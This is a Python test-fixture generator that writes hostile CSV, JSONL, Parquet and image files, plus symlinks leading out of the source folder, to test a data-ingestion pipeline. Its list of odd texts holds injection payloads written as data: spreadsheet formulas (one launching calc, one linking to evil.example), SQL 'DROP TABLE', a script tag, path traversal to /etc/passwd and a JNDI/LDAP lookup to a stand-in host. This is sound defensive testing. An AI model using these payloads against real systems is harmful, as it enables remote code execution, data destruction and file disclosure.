"""A generator of hostile source folders: what attackers and unlucky operators put in front of
ingestion, across CSV, JSONL, Parquet and images, with a control file of good rows.

Each file is described by a :class:`HostileFile` that says how many records ingestion must
see in it (``seen``; None where the format leaves it open) and whether the whole file must
be quarantined, so a test can check conservation against what was written, not only
against what ingestion reports.
"""

import gzip
import io
import json
import os
import random
from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd
from PIL import Image

INTENTS = [
    "my card was stolen and someone made purchases I did not make",
    "I was charged twice for the same order and want a refund",
    "I cannot log in to the mobile app since yesterday",
    "what interest rate would I get on a personal loan",
    "why did you charge me an overdraft fee this month",
    "I moved house and need to update my address",
]

# Texts no item may be made of: nothing visible, or not storable.
INVISIBLE = [
    "",
    "   ",
    "\t\n  \t",
    "\u200b",
    "\u200b\u200c\u200d\ufeff",
    "\x00",
    "\x00\x00\x00",
    "\u2060\u2061",
    "\u00ad\u00ad",
    "\u202e\u202d",
    "\u0301\u0301\u0301",
    "\u3164\u3164",
    "\x7f\x1b",
]
# Odd but legitimate texts: they must be kept (or de-duplicated), never crash anything.
ODD = [
    '=HYPERLINK("http://evil.example","click") card stolen',
    "+1+1 fee question",
    "-2+3 charged twice",
    "@SUM(A1:A9) loan rate",
    "\t=cmd|' /C calc'!A0 overdraft",
    "💳💳 card cloned 💳",
    "my card \u202egnp.exe was stolen",
    "Ｆｕｌｌｗｉｄｔｈ card stolen",
    "cafe\u0301 charged twice",
    "café charged twice",
    "'; DROP TABLE ledger_events; -- refund",
    "<script>alert(1)</script> locked out",
    "../../etc/passwd new address",
    "${jndi:ldap://evil.example/a} loan",
    "null",
    "None",
    "NaN",
    "0",
    "true",
    "line one\r\nline two of a message",
    "tab\tseparated\tfee",
    "x" * 5000,
    "word " * 3000,
    "\\u0000 not a nul, just text",
    "ends with a backslash \\",
    'a "quoted" word and a, comma',
]


@dataclass(frozen=True)
class HostileFile:
    name: str
    seen: int | None  # records ingestion must count in the file (None: not pinned down)
    whole_file: bool = False  # the file is quarantined as one row
    hostile: int = 0  # hostile rows or files it holds, for the suite's total


@dataclass
class HostileCorpus:
    folder: Path
    files: list[HostileFile] = field(default_factory=list)
    control_texts: list[str] = field(default_factory=list)

    @property
    def hostile(self) -> int:
        return sum(f.hostile for f in self.files)

    def add(self, file: HostileFile) -> None:
        self.files.append(file)


def _control_texts(n: int, rng: random.Random) -> list[str]:
    return [f"{rng.choice(INTENTS)} (ticket {i} ref {rng.randrange(10**6)})" for i in range(n)]


def _csv_cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def _csv_rows_file(folder: Path, control: list[str]) -> HostileFile:
    """CSV records, each hostile in its own way; the count of records is exact."""
    lines: list[bytes] = [b"message_id,text"]
    records = 0
    for i, text in enumerate(INVISIBLE + ODD):
        lines.append(f"c{i},{_csv_cell(text)}".encode())
        records += 1
    for i, text in enumerate(control[:10]):  # cross-file duplicates of the control file
        lines.append(f"d{i},{_csv_cell(text)}".encode())
        records += 1
    raw = [
        b"r1,\xff\xfe invalid utf-8 \xc3\x28",
        b"r2,too,many,fields,here",
        b"r3",
        b'r4,"quote then text"after',
        b'r5,"a quote left open\nr6,swallows rows\nr7,"until text follows it',  # one record
        b"r8,nul\x00inside a cell",
        b",",
        b"r9,\xed\xa0\x80 encoded surrogate",
        b"r10,\xc0\xaf overlong encoding",
        b"r11,\xf4\x90\x80\x80 beyond unicode",
    ]
    for line in raw:
        lines.append(line)
        records += 1
    for i in range(90):  # many small variations: numbers, spaces, repeats
        text = f"  {INTENTS[i % len(INTENTS)]}  {'!' * (i % 7)} {i % 13}  "
        lines.append(f"v{i},{_csv_cell(text)}".encode())
        records += 1
    # a last record without a trailing newline, and a quote left open to the end
    lines.append(b'r12,"open quote to the end of the file\nr13,gone\nr14,gone too')
    records += 1
    (folder / "rows.csv").write_bytes(b"\r\n".join(lines))
    return HostileFile("rows.csv", seen=records, hostile=records)


def _jsonl_rows_file(folder: Path, control: list[str]) -> HostileFile:
    lines: list[bytes] = []
    first = json.dumps({"message_id": "bom", "text": "a row behind a byte-order mark, kept"})
    lines.append(b"\xef\xbb\xbf" + first.encode())
    for i, text in enumerate(INVISIBLE + ODD):
        lines.append(json.dumps({"message_id": f"j{i}", "text": text}).encode())
    for i, text in enumerate(control[10:20]):
        lines.append(json.dumps({"message_id": f"dup{i}", "text": text}).encode())
    raw = [
        b'{"text": "lone \\ud800 surrogate"}',
        b'{"text": "trailing \\udfff"}',
        b'{"text": "pair \\ud83d\\ude00 is fine"}',
        b'{"message_id": "lone\\ud800id", "text": "a fine text whose id is not"}',
        b"{bad json",
        b"[1, 2, 3]",
        b'"just a string"',
        b"123",
        b"null",
        b'{"text": 5}',
        b'{"text": null}',
        b'{"text": ["a", "list"]}',
        b'{"text": {"an": "object"}}',
        b'{"text": true}',
        b'{"text": NaN}',
        b'{"text": 1e400}',
        b'{"message_id": 7}',
        b'{"text": "x", "__row": "not a number", "__bad_encoding": true}',
        b'{"text": "\xff\xfe invalid utf-8"}',
        b'{"text": "\\u0000"}',
        b'{"text": "ok", "message_id": ' + b"9" * 5000 + b"}",
        b"[" * 50000 + b"]" * 50000,
        b'{"text": "duplicate keys", "text": "last one wins"}',
        b"\xef\xbb\xbf" + b'{"text": "a byte-order mark in the middle"}',
    ]
    lines.extend(raw)
    for i in range(90):
        lines.append(json.dumps({"message_id": i, "text": f"{INTENTS[i % 6]} #{i % 17}"}).encode())
    (folder / "rows.jsonl").write_bytes(b"\n".join(lines) + b"\n\n   \n")
    return HostileFile("rows.jsonl", seen=len(lines), hostile=len(lines))


def _parquet_files(folder: Path, control: list[str]) -> list[HostileFile]:
    texts: list[str | None] = [*INVISIBLE, *ODD, *control[20:30], None, None]
    texts += [f"{INTENTS[i % 6]} variant {i % 11}" for i in range(90)]
    ids: list[object] = [i if i % 5 else None for i in range(len(texts))]
    pd.DataFrame({"message_id": ids, "text": texts}).to_parquet(folder / "rows.parquet")
    numbers = pd.DataFrame({"message_id": range(12), "text": [float(i) for i in range(12)]})
    numbers.to_parquet(folder / "number_text.parquet")
    blobs = pd.DataFrame({"text": [b"\x00\x01", b"bytes", b""]})
    blobs.to_parquet(folder / "bytes_text.parquet")
    no_text = pd.DataFrame({"message_id": [1, 2, 3], "body": ["a", "b", "c"]})
    no_text.to_parquet(folder / "no_text_column.parquet")
    return [
        HostileFile("rows.parquet", seen=len(texts), hostile=len(texts)),
        HostileFile("number_text.parquet", seen=12, hostile=12),
        HostileFile("bytes_text.parquet", seen=3, hostile=3),
        HostileFile("no_text_column.parquet", seen=3, hostile=3),
    ]


def _whole_files(folder: Path, outside: Path, control_csv: bytes) -> list[HostileFile]:
    """Files that cannot be read at all, or must not be."""
    buffer = io.BytesIO()
    pd.DataFrame({"text": ["a parquet that will be cut"] * 50}).to_parquet(buffer)
    rng = random.Random(3)
    (folder / "zero.csv").write_bytes(b"")
    (folder / "zero.parquet").write_bytes(b"")
    (folder / "truncated.parquet").write_bytes(buffer.getvalue()[:200])
    (folder / "utf16.csv").write_bytes(control_csv.decode().encode("utf-16"))
    (folder / "gzipped.csv").write_bytes(gzip.compress(control_csv))
    (folder / "binary.csv").write_bytes(bytes(rng.randrange(256) for _ in range(4096)))
    (folder / "fake.jsonl.parquet").write_bytes(b'{"text": "not parquet"}\n')
    (folder / ".hidden.csv").write_bytes(control_csv)
    (folder / "clash file.csv").write_bytes(b"text\na row in a clashing file\n")
    (folder / "clash_file.csv").write_bytes(b"text\nthe row of the file that keeps its key\n")
    outside.write_bytes(b"text\na secret outside the source folder\n")
    os.symlink(outside, folder / "outside_link.csv")
    os.symlink(folder / "does-not-exist.csv", folder / "broken_link.csv")
    whole = [
        "zero.csv",
        "zero.parquet",
        "truncated.parquet",
        "utf16.csv",
        "gzipped.csv",
        "binary.csv",
        "fake.jsonl.parquet",
        ".hidden.csv",
        "clash file.csv",
        "outside_link.csv",
        "broken_link.csv",
    ]
    files = [HostileFile(name, seen=1, whole_file=True, hostile=1) for name in whole]
    files.append(HostileFile("clash_file.csv", seen=1))
    return files


def _zero_item_files(folder: Path, control_csv: bytes) -> list[HostileFile]:
    """Batches that hold no new item: a re-delivered file, an empty or header-only file, a
    file whose every row is quarantined."""
    (folder / "redelivered.csv").write_bytes(control_csv)
    (folder / "header_only.csv").write_bytes(b"message_id,text\n")
    (folder / "zero.jsonl").write_bytes(b"")
    (folder / "all_bad.csv").write_bytes('message_id,text\n1,\n2,"\u200b\x00"\n3,   \n'.encode())
    n = control_csv.count(b"\n") - 1
    return [
        HostileFile("redelivered.csv", seen=n, hostile=1),
        HostileFile("header_only.csv", seen=0, hostile=1),
        HostileFile("zero.jsonl", seen=0, hostile=1),
        HostileFile("all_bad.csv", seen=3, hostile=3),
    ]


def write_text_corpus(
    folder: Path, outside: Path, *, seed: int = 0, n_control: int = 40
) -> HostileCorpus:
    """The hostile text source folder (``folder``) with a control file of good rows;
    ``outside`` is a file outside the folder that a link points to."""
    rng = random.Random(seed)
    folder.mkdir(parents=True, exist_ok=True)
    control = _control_texts(n_control, rng)
    control_frame = pd.DataFrame({"message_id": range(n_control), "text": control})
    control_csv = control_frame.to_csv(index=False).encode()
    (folder / "control.csv").write_bytes(control_csv)
    corpus = HostileCorpus(folder=folder, control_texts=control)
    corpus.add(HostileFile("control.csv", seen=n_control))
    corpus.add(_csv_rows_file(folder, control))
    corpus.add(_jsonl_rows_file(folder, control))
    for file in [
        *_parquet_files(folder, control),
        *_whole_files(folder, outside, control_csv),
        *_zero_item_files(folder, control_csv),
    ]:
        corpus.add(file)
    return corpus


def _png(color: tuple[int, int, int], size: tuple[int, int] = (16, 16), mark: int = 0) -> bytes:
    image = Image.new("RGB", size, color)
    image.putpixel((0, 0), (mark % 256, mark // 256 % 256, 7))  # distinct content
    buffer = io.BytesIO()
    image.save(buffer, format="PNG")
    return buffer.getvalue()


def write_image_corpus(folder: Path, outside: Path, *, n_control: int = 12) -> HostileCorpus:
    """An image source folder: control images (red: cat, blue: dog) in ``control/`` and
    hostile files in the top folder and ``mixed/``."""
    corpus = HostileCorpus(folder=folder)
    control = folder / "control"
    control.mkdir(parents=True, exist_ok=True)
    for i in range(n_control):
        color = (220, 20, 20) if i % 2 else (20, 20, 220)
        (control / f"{'red' if i % 2 else 'blue'}_{i}.png").write_bytes(_png(color, mark=i))
        corpus.control_texts.append(str(control / f"{'red' if i % 2 else 'blue'}_{i}.png"))
    corpus.add(HostileFile("control", seen=n_control))
    good = _png((200, 30, 30), mark=999)
    hostile: dict[str, bytes] = {
        "empty.png": b"",
        "truncated.png": good[: len(good) // 2],
        "text.jpg": b"this is not a jpeg at all",
        "html.png": b"<html><script>alert(1)</script></html>",
        "gzip.png": gzip.compress(good),
        "big.png": _png((1, 2, 3), size=(400, 400)),  # over the project's pixel limit
        "header_only.png": good[:33],
        "zeros.webp": bytes(512),
        "dup_a.png": good,
        "dup_b.png": good,  # the same image twice: a duplicate, not an error
        "ok.PNG": _png((30, 30, 200), mark=1000),
        ".hidden.png": _png((9, 9, 9), mark=1001),
    }
    for i in range(50):  # random bytes behind image names
        rng = random.Random(i)
        hostile[f"noise_{i}.{('png', 'jpg', 'bmp', 'tif')[i % 4]}"] = bytes(
            rng.randrange(256) for _ in range(64 + i * 7)
        )
    mixed = folder / "mixed"
    (mixed / ".thumbs").mkdir(parents=True, exist_ok=True)
    for name, data in hostile.items():
        (mixed / name).write_bytes(data)
    (mixed / ".thumbs" / "t.png").write_bytes(_png((5, 5, 5), mark=1002))
    outside.write_bytes(_png((250, 0, 0), mark=1003))
    os.symlink(outside, mixed / "outside_link.png")
    os.symlink(mixed / "missing.png", mixed / "broken_link.png")
    (mixed / "folder.png").mkdir()  # a folder with an image name is not a file: not counted
    seen = len(hostile) + 3  # the thumbnail in the hidden folder and the two links
    corpus.add(HostileFile("mixed", seen=seen, hostile=seen))
    return corpus
